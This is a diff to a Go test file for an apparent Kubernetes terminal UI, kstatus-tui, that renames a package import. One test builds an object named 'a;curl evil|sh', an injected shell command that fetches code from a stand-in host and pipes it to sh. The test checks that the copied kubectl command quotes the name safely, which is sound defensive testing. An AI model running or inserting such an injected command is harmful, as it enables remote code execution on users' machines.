@@ -7,8 +7,8 @@ import (
 
 	"github.com/google/go-cmp/cmp"
 
+	"github.com/kstatus-tui/kstatus-tui/internal/feed"
 	"github.com/kstatus-tui/kstatus-tui/internal/object"
-	"github.com/kstatus-tui/kstatus-tui/internal/status"
 )
 
 func (p *play) suggests() []string {
@@ -165,7 +165,7 @@ func TestACommandToCopyIsNothingButWordsToAShell(t *testing.T) {
 	p := screen(t)
 	_, b := bazaar()
 	odd := &object.Object{ID: object.ID{Group: "x.io", Kind: "W", Namespace: "a b", Name: "a;curl evil|sh"}, UID: "w"}
-	b.Objects, b.Roots = []*object.Object{odd}, []status.Root{{ID: odd.ID}}
+	b.Objects, b.Roots = []*object.Object{odd}, []feed.Root{{ID: odd.ID}}
 	p.batch(0, b)
 	n := p.m.w.nodes.At(odd.ID)
 	if got, want := p.m.nextCommand(n), "kubectl -n 'a b' describe 'w.x.io/a;curl evil|sh'"; got != want {
@@ -192,7 +192,7 @@ func TestTheCopyMenuTakesEverythingToTheClipboard(t *testing.T) {
 	p.keys("C")
 	p.typesIn("yaml")
 	p.keys("enter")
-	p.send(DetailLoaded{Gen: p.m.detail.gen, Detail: status.Detail{YAML: "kind: Deployment\n"}})
+	p.send(DetailLoaded{Gen: p.m.detail.gen, Detail: feed.Detail{YAML: "kind: Deployment\n"}})
 	if c, _ := last[CopyAsked](p); c.Text != "kind: Deployment\n" {
 		t.Errorf("YAML: %q", c.Text)
 	}
